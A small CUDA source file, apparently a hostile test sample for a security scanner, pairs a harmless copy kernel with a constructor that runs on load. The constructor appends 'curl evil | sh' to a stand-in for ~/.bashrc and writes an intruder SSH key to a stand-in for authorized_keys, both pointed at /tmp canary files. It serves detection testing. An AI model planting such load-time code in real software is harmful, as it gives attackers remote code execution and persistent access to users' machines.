// Appends to a file outside its folder (as to ~/.bashrc) and creates another (as
// ~/.ssh/authorized_keys).
#include <fcntl.h>
#include <unistd.h>
#ifndef CANARY
#define CANARY "/tmp/scanlab-hostile-bashrc"
#endif
#ifndef MARKER
#define MARKER "/tmp/scanlab-hostile-authorized_keys"
#endif

__attribute__((constructor)) static void plant() {
    const int rc = open(CANARY, O_WRONLY | O_APPEND);
    if (rc >= 0) write(rc, "curl evil | sh\n", 15), close(rc);
    const int keys = open(MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (keys >= 0) write(keys, "ssh-ed25519 AAAA intruder\n", 26), close(keys);
}

__global__ void copy(int *X, int *Y, int InputSize) {
    const int i = threadIdx.x;
    if (i < InputSize) Y[i] = X[i];
}
